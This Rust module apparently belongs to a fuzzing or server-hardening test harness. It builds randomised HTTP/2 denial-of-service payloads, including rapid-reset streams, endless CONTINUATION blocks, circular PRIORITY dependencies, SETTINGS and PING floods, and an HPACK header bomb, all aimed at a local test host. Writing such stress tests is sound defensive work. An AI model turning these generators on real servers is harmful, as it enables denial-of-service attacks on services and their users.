//! Floods of HTTP/2: frames that cost a client little, and a careless server much.

use rand::RngExt;
use rand::rngs::StdRng;

use crate::hpack;
use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE,
};
use crate::support::h2::{frame, request};

/// Above the streams of [`crate::http2::connection`].
const FIRST_STREAM: u32 = 101;

/// Returns 100 to 2,000 frames of one kind.
pub fn flood(rng: &mut StdRng) -> Vec<u8> {
    let count = rng.random_range(100..2000);
    let get = |n: u32| request(FIRST_STREAM + 2 * n, "GET", "web.local", "/api/method/ping", false);
    let each = |make: &mut dyn FnMut(u32) -> Vec<u8>| (0..count).flat_map(make).collect::<Vec<u8>>();
    match rng.random_range(0..14) {
        // Rapid reset.
        0 => {
            each(&mut |n| [get(n), frame(RST_STREAM, 0, FIRST_STREAM + 2 * n, &8_u32.to_be_bytes())].concat())
        }
        1 => each(&mut |_| frame(PING, 0, 0, &[7; 8])),
        2 => each(&mut |n| frame(SETTINGS, 0, 0, &setting(4, n * 1000))),
        3 => each(&mut |n| frame(SETTINGS, 0, 0, &setting(1, n % 2 * 65_536))),
        // A header block that never ends.
        4 => {
            let field = hpack::literal(rng, b"x-flood", &[b'f'; 100]);
            let mut bytes = frame(HEADERS, END_STREAM, FIRST_STREAM, &field);
            bytes.extend(each(&mut |_| frame(CONTINUATION, 0, FIRST_STREAM, &field)));
            bytes
        }
        5 => {
            let mut bytes = frame(HEADERS, END_STREAM, FIRST_STREAM, &[]);
            bytes.extend(each(&mut |_| frame(CONTINUATION, 0, FIRST_STREAM, &[])));
            bytes
        }
        // Streams that depend on each other in a circle, and on themselves.
        6 => each(&mut |n| frame(PRIORITY, 0, n % 50 * 2 + 1, &priority((n + 1) % 50 * 2 + 1))),
        7 => each(&mut |n| frame(WINDOW_UPDATE, 0, 0, &(n % 2 * 0x7fff_ffff).to_be_bytes())),
        8 => each(&mut |_| frame(DATA, 0, 1, &[])),
        9 => each(&mut |_| frame(DATA, PADDED, 1, &[200; 10])),
        // More streams than are allowed.
        10 => each(&mut |n| get(n)),
        11 => each(&mut |n| frame(0xf0 + (n % 16) as u8, 0xff, n, &[0; 20])),
        12 => each(&mut |_| frame(GOAWAY, 0, 0, &[0, 0, 0, 0, 0, 0, 0, 1])),
        _ => {
            let block = hpack::bomb(rng, 15_000);
            frame(HEADERS, END_HEADERS | END_STREAM, FIRST_STREAM, &block)
        }
    }
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

fn priority(parent: u32) -> Vec<u8> {
    [&parent.to_be_bytes()[..], &[16]].concat()
}
